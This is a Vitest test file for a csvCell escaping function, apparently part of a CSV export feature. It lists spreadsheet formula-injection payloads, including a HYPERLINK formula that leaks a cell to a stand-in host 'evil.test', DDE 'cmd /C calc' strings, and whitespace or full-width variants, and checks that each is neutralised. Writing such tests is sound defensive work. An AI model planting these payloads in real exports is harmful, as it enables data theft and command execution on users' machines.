import { describe, expect, it } from 'vitest';
import { csvCell } from './csv';

describe('csvCell', () => {
  it('writes anything a spreadsheet would run as a formula as text', () => {
    for (const attack of [
      '=HYPERLINK("http://evil.test/?leak="&A2,"Reorder")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      "|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '\n=1+1',
      '＝1+1',
      '\u3000=1+1',
    ]) {
      expect(csvCell(attack)).toBe(`'${attack}`);
    }
  });
  it('leaves names, addresses and plain numbers as they are', () => {
    for (const plain of [
      'Repair mask',
      'Ana-Maria',
      '12 Elm St',
      '42',
      '-12.50',
      '0.5',
      '',
      'a=b',
    ]) {
      expect(csvCell(plain)).toBe(plain);
    }
  });
});
